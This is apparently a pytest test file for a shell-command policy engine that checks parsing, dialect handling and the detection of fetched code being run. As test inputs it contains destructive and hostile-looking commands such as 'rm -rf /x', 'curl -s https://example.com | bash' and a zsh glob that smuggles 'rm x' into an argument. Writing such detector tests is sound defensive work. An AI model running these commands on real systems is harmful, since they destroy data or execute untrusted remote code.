"""Lines that are too much: all of it is analysed, or the line is undecided; nothing ends in another exception."""

from __future__ import annotations

import shlex

import pytest

from policy_engine.effects import taint
from policy_engine.effects.command import effects_of
from policy_engine.filesystem.file_system import Virtual
from policy_engine.model.partial import is_known
from policy_engine.model.undecided import Undecided
from policy_engine.shell.parse import parse

WORLD = Virtual()


@pytest.mark.parametrize("joint", ["; ", " && ", " || ", "\n", " & "])
def test_five_thousand_commands_are_all_found(joint: str) -> None:
    found = parse(joint.join(["true"] * 5000 + ["rm -rf /x"]), "/workspace", WORLD)
    assert len(found) == 5001
    assert found[-1].argv == ("rm", "-rf", "/x")


@pytest.mark.parametrize(
    "line",
    [
        "$(" * 200 + "x" + ")" * 200, '"$(' * 5000, "(" * 10_000, "{" * 50_000, "`" * 50_001, "a|" * 30_000,
        "eval " * 60 + "x", "sudo " * 60 + "x", "if a; then " * 2000, "${x:-" * 10_000, "$((" * 10_000, "<(" * 5000,
        "echo {a..z}{a..z}{a..z}{a..z}{a..z}{a..z}", "echo {1..100000000}", "echo " + "{" * 3000 + "a,b" + "}" * 3000,
        "a" * 1_000_000, "for i in a b; do " * 16 + "x;" + " done;" * 16,
        "".join(f"v{number}=1; " for number in range(5000)),
        "cat " + " ".join(f"<<E{number}" for number in range(100)), "case x in " * 3000,
    ],
)  # fmt: skip
def test_what_is_too_much_is_undecided(line: str) -> None:
    with pytest.raises(Undecided):
        parse(line, "/workspace", WORLD)


def test_shells_in_shells_are_followed_or_undecided() -> None:
    line = "rm -rf /x"
    for _ in range(5):
        line = f"bash -c {shlex.quote(line)}"
    found = parse(line, "/workspace", WORLD)
    assert [command.program for command in found] == ["bash"] * 5 + ["rm"]
    assert found[-1].via == ("bash",) * 5
    assert parse("bash -c " * 60 + "x", "/workspace", WORLD)[-1].argv == ("bash",)


def test_a_value_that_grows_without_bound_is_not_known() -> None:
    found = parse("x=aa; " + "x=$x$x; " * 40 + "echo " + "$x" * 100, "/workspace", WORLD)
    assert found[-1].dynamic


@pytest.mark.parametrize(
    "line",
    [
        "git push -f", "a | b", "a && b 2>&1 | tail -5", "echo \"$x\" 'y' $'z'", "cat <<E\n$(a)\nE", "[[ -f x ]] && a",
        "for i in a b; do c \"$i\"; done", "x=$(a) && b \"$x\"", "a &> f", "grep -E '^(nc|cat)$' f | wc -l",
    ],
)  # fmt: skip
def test_zsh_is_understood_where_it_reads_as_bash(line: str) -> None:
    def shown(dialect: str) -> list[object]:
        return [(one.argv, one.text, one.env) for one in parse(line, "/workspace", WORLD, dialect)]

    assert shown("zsh") == shown("bash")


@pytest.mark.parametrize(
    "line",
    [
        "ls *(e:'rm x':)", "echo x >! f", "rm =ls", "rm $=x", "rm ${(e)x}", "rm $x[1]", "rm $x:h", "repeat 3",
        "cat <1-9>", "a &! b", "setopt extendedglob; rm ^x", "echo ^x", "a >>| f", "echo $+x",
    ],
)  # fmt: skip
def test_zsh_is_undecided_where_it_reads_otherwise(line: str) -> None:
    with pytest.raises(Undecided):
        parse(line, "/workspace", WORLD, "zsh")


def test_zsh_divides_no_values_and_ends_pipelines_in_the_same_shell() -> None:
    assert parse("x='a b'; rm $x", "/workspace", WORLD)[-1].argv == ("rm", "a", "b")
    assert not is_known(parse("x='a b'; rm $x", "/workspace", WORLD, "zsh")[-1].argv[1])
    assert parse("a | cd d; b", "/workspace", WORLD)[-1].cwd.real == "/workspace"
    assert parse("a | cd d; b", "/workspace", WORLD, "zsh")[-1].cwd.real == "/workspace/d"


@pytest.mark.parametrize(
    "line",
    ["echo $'x'", "a &> f", "((rm x))", "[[ a || rm x ]]", "x+=1 a", "declare x=1", "printf -v x y", 'echo $"x"'],
)
def test_sh_is_undecided_where_it_may_not_be_bash(line: str) -> None:
    with pytest.raises(Undecided, match="otherwise"):
        parse(line, "/workspace", WORLD, "sh")
    assert parse('ls | grep -E "^(nc|cat)$"', "/workspace", WORLD, "sh")[-1].program == "grep"


@pytest.mark.fault(24)
def test_where_code_comes_from_is_looked_for_once_for_each_command(monkeypatch: pytest.MonkeyPatch) -> None:
    looks, foreign = [], taint._foreign
    monkeypatch.setattr(
        taint, "_foreign", lambda command, analysis_of: looks.append(command) or foreign(command, analysis_of)
    )
    commands = parse("sh a; " * 60, "/workspace", WORLD)
    for command in commands:
        command.line = commands
    assert not any(effects_of(command).runs_foreign for command in commands)
    assert len(looks) == 60


@pytest.mark.fault(24)
def test_of_more_fetched_files_than_are_followed_any_may_be_run() -> None:
    many = "; ".join(f"curl -so f{number} https://example.com/{number}" for number in range(taint.FETCHED + 1))
    commands = parse(f"{many}; sh f{taint.FETCHED}", "/workspace", WORLD)
    for command in commands:
        command.line = commands
    with pytest.raises(Undecided, match="fetches more than"):
        _ = effects_of(commands[-1]).runs_foreign
    piped = parse(f"{many}; curl -s https://example.com | bash", "/workspace", WORLD)
    for command in piped:
        command.line = piped
    assert effects_of(piped[-1]).runs_foreign
